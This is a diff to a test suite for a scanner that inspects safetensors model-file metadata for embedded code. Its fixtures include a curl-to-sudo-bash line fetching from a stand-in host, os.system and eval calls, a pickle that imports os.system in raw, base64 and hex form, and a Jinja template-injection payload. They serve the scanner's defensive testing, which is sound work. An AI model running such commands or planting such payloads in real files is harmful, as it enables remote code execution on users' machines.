@@ -242,24 +242,80 @@ describe('inspectSafetensors: metadata', () => {
     expect(Object.getOwnPropertyDescriptor(r.metadata, '__proto__')?.value).toBe('p')
   })
 
-  it('flags values that look like code or links', async () => {
+  it('names the code it finds, with the text that holds it', async () => {
     const values: Record<string, string> = {
-      a: "__import__('os')",
+      a: "__import__('os').system('id')",
       b: 'import os; os.system("id")',
       c: 'eval(x)',
-      d: 'exec (x)',
-      e: 'subprocess.run',
+      e: 'then subprocess.run(["id"])',
       f: '<SCRIPT>alert(1)</script>',
-      g: 'see https://example.com/x',
-      h: 'http://example.com',
+      g: 'curl -s https://evil.example/x.sh | sudo bash',
       plain: 'a model card description, nothing else'
     }
     const r = await inspect(file({ __metadata__: values }))
     expect(r.problems).toEqual([])
     const keys = new Set(r.suspiciousMetadata.map((s) => s.key))
-    expect([...keys].sort()).toEqual(['a', 'b', 'c', 'd', 'e', 'f', 'g', 'h'])
-    expect(r.suspiciousMetadata).toContainEqual({ key: 'b', reason: "contains 'os.system'-like call" })
-    expect(r.suspiciousMetadata).toContainEqual({ key: 'g', reason: 'contains a URL' })
+    expect([...keys].sort()).toEqual(['a', 'b', 'c', 'e', 'f', 'g'])
+    const reasons = (key: string) => r.suspiciousMetadata.filter((s) => s.key === key).map((s) => s.reason)
+    expect(reasons('a')).toContain(`holds a call of __import__('os') ("__import__('os').system('id')")`)
+    expect(reasons('b')).toContain(`holds a call of os.system ("import os; os.system(\\"id\\")")`)
+    expect(reasons('b')).toContain(`holds Python code importing os ("import os; os.system(\\"id\\")")`)
+    expect(reasons('c')).toEqual([`holds a call of eval ("eval(x)")`])
+    expect(reasons('e')[0]).toMatch(/^holds subprocess\.run /)
+    expect(reasons('f')[0]).toMatch(/^holds an HTML script element /)
+    expect(reasons('g')[0]).toMatch(/^holds a shell command piping a download \(curl\) into bash /)
+  })
+
+  it('passes prose: the words import, eval, exec and subprocess, links, licences, a method call', async () => {
+    const values: Record<string, string> = {
+      description:
+        'We import the weights from the original checkpoint; see https://example.com/paper. The eval (held-out) set and exec (x) timing are in the card.',
+      license: 'https://www.apache.org/licenses/LICENSE-2.0',
+      url: 'http://example.com',
+      usage: 'model.eval() before inference; subprocess management is up to you; import torch',
+      note: 'import os',
+      hash: 'gAJ9cQBYAwAAAGZvb3EBWAMAAABiYXJxAnMu'.replace('gAJ', 'gAX')
+    }
+    const r = await inspect(file({ __metadata__: values }))
+    expect(r.suspiciousMetadata).toEqual([])
+  })
+
+  it('finds a pickle stored in metadata, raw, base64 or hex, and names its imports', async () => {
+    const pickle = Buffer.from('\x80\x02cos\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03.', 'latin1')
+    const r = await inspect(
+      file({
+        __metadata__: {
+          b64: pickle.toString('base64'),
+          hex: pickle.toString('hex'),
+          raw: pickle.toString('latin1'),
+          inside: `state=${pickle.toString('base64')};`
+        }
+      })
+    )
+    for (const [key, encoding] of [
+      ['b64', 'base64'],
+      ['hex', 'hex'],
+      ['raw', 'raw'],
+      ['inside', 'base64']
+    ] as const) {
+      expect(r.suspiciousMetadata.find((s) => s.key === key)?.reason).toMatch(
+        new RegExp(`^holds an embedded pickle \\(${encoding}\\) importing os\\.system `)
+      )
+    }
+  })
+
+  it('reports a Jinja template in metadata only when rendering it would reach Python objects', async () => {
+    const r = await inspect(
+      file({
+        __metadata__: {
+          ssti: "{{ ''.__class__.__mro__[1].__subclasses__() }}",
+          benign: '{% for m in messages %}{{ m.content }}{% endfor %}',
+          prose: 'braces {% in prose %} that Jinja cannot parse'
+        }
+      })
+    )
+    expect(r.suspiciousMetadata.map((s) => s.key)).toEqual(['ssti'])
+    expect(r.suspiciousMetadata[0]!.reason).toMatch(/^holds a Jinja template that can run code when rendered/)
   })
 })
 
